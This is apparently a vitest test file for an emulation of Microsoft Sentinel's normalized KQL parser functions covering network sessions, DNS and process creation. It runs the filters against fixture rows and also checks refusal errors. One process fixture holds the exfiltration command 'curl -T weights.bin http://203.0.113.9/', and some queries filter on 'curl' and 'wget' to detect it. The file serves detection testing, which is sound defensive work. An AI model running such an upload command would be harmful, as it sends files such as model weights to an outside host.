import { afterAll, beforeAll, expect, it } from 'vitest'
import { temporaryFolder } from '../../../../test/support/temporary-folder.ts'
import type { AnalyticsStore } from '../../../store/analytics/analytics-store.ts'
import { openEmbedded } from '../../../store/analytics/embedded.ts'
import { DEFAULT_LIMITS } from '../../../store/analytics/query-limits.ts'
import { runQuery } from '../../run/run-query.ts'
import { requiredTicks } from '../../run/ticks-of-time.ts'
import { schemaNamed } from '../../schemas/load-schemas.ts'
import { normalizedParser } from './filter-parameters.ts'

const folder = temporaryFolder()
let store: AnalyticsStore
beforeAll(async () => {
  store = await openEmbedded(folder)
})
afterAll(() => store.close())

const SESSIONS = [
  {
    TimeGenerated: '2026-03-01T00:00:00Z',
    SrcIpAddr: '10.0.0.1',
    DstIpAddr: '192.0.2.7',
    DstPortNumber: 443,
    SrcHostname: 'gpu-1.example.com',
    DstHostname: 'store.example.net',
    DvcAction: 'Allow',
    EventResult: 'Success',
  },
  {
    TimeGenerated: '2026-03-02T00:00:00Z',
    SrcIpAddr: '10.0.10.1',
    DstIpAddr: '10.0.0.9',
    DstPortNumber: 22,
    SrcHostname: 'laptop-3',
    DstHostname: 'gpu-1.example.com',
    DvcAction: 'Deny',
    EventResult: 'Failure',
  },
]
const LOOKUPS = [
  {
    DnsQuery: 'a.example.com',
    EventType: 'Query',
    DnsResponseName: '192.0.2.1',
    DnsResponseCodeName: 'NOERROR',
  },
  { DnsQuery: 'b.example.org', EventType: 'Query', DnsResponseName: '', DnsResponseCodeName: 'NXDOMAIN' },
  {
    DnsQuery: 'c.example.com',
    EventType: 'lookup',
    DnsResponseName: '198.51.100.2',
    DnsResponseCodeName: 'NOERROR',
  },
  { DnsQuery: 'd.example.com', EventType: 'Info', DnsResponseName: '', DnsResponseCodeName: '' },
]
const PROCESSES = [
  {
    TargetProcessCommandLine: 'curl -T weights.bin http://203.0.113.9/',
    TargetUsername: 'ann',
    TargetProcessMD5: 'ab12',
  },
  { TargetProcessCommandLine: 'tar cf weights.tar .', TargetUsername: 'bob', TargetProcessMD5: 'cd34' },
]

async function run(text: string) {
  const rows = new Map<string, readonly Record<string, unknown>[]>([
    ['_Im_NetworkSession', SESSIONS],
    ['_Im_Dns', LOOKUPS],
    ['_ASim_Dns', LOOKUPS],
    ['imProcessCreate', PROCESSES],
  ])
  return runQuery(store, {
    language: 'kql',
    text,
    schema: await schemaNamed('sentinel', { open: true }),
    nowTicks: requiredTicks('2026-04-01T00:00:00Z', 'now'),
    rows,
    limits: DEFAULT_LIMITS,
  })
}

const COUNTS: readonly [call: string, rows: number][] = [
  ['_Im_NetworkSession()', 2],
  ['_Im_NetworkSession(starttime=datetime(2026-03-02), endtime=now())', 1],
  ['_Im_NetworkSession(starttime=datetime(null), endtime=datetime(2026-03-01))', 1],
  ["_Im_NetworkSession(srcipaddr_has_any_prefix=dynamic(['10.0.0.']))", 1],
  ["_Im_NetworkSession(srcipaddr_has_any_prefix=dynamic(['10.0.1.']))", 0],
  ['_Im_NetworkSession(srcipaddr_has_any_prefix=dynamic([]))', 2],
  ["_Im_NetworkSession(dstipaddr_has_any_prefix=dynamic(['192.0.2.', '198.51.100.']))", 1],
  ["_Im_NetworkSession(ipaddr_has_any_prefix=dynamic(['10.0.0.']))", 2],
  [
    "let ips = toscalar(datatable(p:string) ['10.0.0.'] | summarize make_list(p)); _Im_NetworkSession(srcipaddr_has_any_prefix=ips)",
    1,
  ],
  [
    "let none = toscalar(datatable(p:string) ['x'] | where p == 'y' | summarize make_list(p)); _Im_NetworkSession(srcipaddr_has_any_prefix=none)",
    2,
  ],
  ['_Im_NetworkSession(dstportnumber=22)', 1],
  ['_Im_NetworkSession(dstportnumber=int(null))', 2],
  ["_Im_NetworkSession(hostname_has_any='store')", 1],
  ["_Im_NetworkSession(hostname_has_any=dynamic(['gpu-1']))", 2],
  ["_Im_NetworkSession(dvcaction=dynamic(['Deny', 'Drop']))", 1],
  ["_Im_NetworkSession(eventresult='Success', pack=true)", 1],
  ["_Im_NetworkSession(eventresult='*')", 2],
  ['_Im_NetworkSession(disabled=true)', 0],
  ["_Im_NetworkSession(datetime(2026-03-01), datetime(2026-03-31), dynamic(['10.0.10.']))", 1],
  ['_Im_Dns', 3],
  ['_Im_Dns()', 3],
  ["_Im_Dns(eventtype='*')", 4],
  ["_Im_Dns(eventtype='Info')", 1],
  ["_Im_Dns(eventtype='lookup')", 3],
  ['_ASim_Dns', 4],
  ["_Im_Dns(responsecodename='NXDOMAIN')", 1],
  ["_Im_Dns(domain_has_any=dynamic(['example.com']))", 2],
  ["_Im_Dns(response_has_ipv4='192.0.2.1')", 1],
  ["_Im_Dns(response_has_any_prefix=dynamic(['198.51.']))", 1],
  ["imProcessCreate(commandline_has_any=dynamic(['curl', 'wget']))", 1],
  ["imProcessCreate(commandline_has_all=dynamic(['tar', 'cf']))", 1],
  ["imProcessCreate(commandline_has_any_ip_prefix=dynamic(['203.0.113.']))", 1],
  ["imProcessCreate(targetusername_has='ann')", 1],
  ["imProcessCreate(hashes_has_any=dynamic(['CD34']))", 1],
]

it.each(COUNTS)('%s gives %i rows', async (call, count) => {
  const statements = call.split('; ')
  const text = [...statements.slice(0, -1), `${statements.at(-1)} | count`].join(';\n')
  expect((await run(text)).rows).toEqual([[count]])
})

it('says which of two columns matched', async () => {
  const { rows } = await run(
    "_Im_NetworkSession(ipaddr_has_any_prefix=dynamic(['10.0.0.'])) | project DstPortNumber, ASimMatchingIpAddr",
  )
  expect(rows).toEqual([
    [443, 'SrcIpAddr'],
    [22, 'DstIpAddr'],
  ])
})

const REFUSED: readonly [text: string, construct: string][] = [
  ["_Im_NetworkSession(pack=true, «url_has_any=dynamic(['x'])»)", 'url_has_any'],
  ["_Im_Dns(«constructor='x'»)", 'constructor'],
  ["_Im_NetworkSession(«eventtype='x'»)", 'eventtype'],
]

it.each(REFUSED)('refuses %s', async (marked, construct) => {
  const start = marked.indexOf('«')
  const error = await run(marked.replace(/[«»]/g, '')).catch((reason: unknown) => reason)
  expect(error).toMatchObject({
    code: 'unsupported',
    construct,
    at: { start, end: marked.indexOf('»') - 1 },
  })
})

it('knows the schema of a parser by its name', () => {
  const first = (name: string) => Object.keys(normalizedParser(name)?.parameters ?? {})[2]
  expect(first('vimNetworkSessionAWSVPC')).toBe('srcipaddr_has_any_prefix')
  expect(first('_Im_ProcessCreate_MicrosoftSysmon')).toBe('commandline_has_any')
  expect(first('imRegistry')).toBe('eventtype_in')
  expect(first('_Im_RegistryEvent')).toBe('eventtype_in')
  expect(first('_Im_DhcpEvent')).toBe('srcipaddr_has_any_prefix')
  expect(normalizedParser('imFiles_CL')).toBeUndefined()
  expect(normalizedParser('Dns')).toBeUndefined()
  expect(normalizedParser('_GetWatchlist')).toBeUndefined()
})
